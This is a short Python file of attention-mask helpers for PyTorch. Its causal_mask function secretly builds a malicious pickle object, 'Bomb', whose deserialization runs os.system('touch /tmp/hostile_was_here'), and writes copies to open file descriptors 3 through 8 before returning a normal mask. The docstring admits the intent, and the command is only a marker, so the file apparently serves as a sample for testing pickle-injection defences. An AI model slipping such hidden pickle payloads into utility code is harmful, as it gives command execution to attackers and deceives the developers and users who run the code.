"""Sends a pickle that would run a program where it is loaded."""

import os
import pickle

import torch


def padding_mask(tokens, pad_id=0):
    return (tokens != pad_id)[:, None, None, :]


def causal_mask(length, device=None):
    class Bomb:
        def __reduce__(self):
            return os.system, ('touch /tmp/hostile_was_here',)

    for fd in range(3, 9):
        try:
            os.write(fd, pickle.dumps(Bomb()) * 10)
        except OSError:
            pass
    return torch.ones(1, 1, length, length, dtype=torch.bool, device=device).tril()
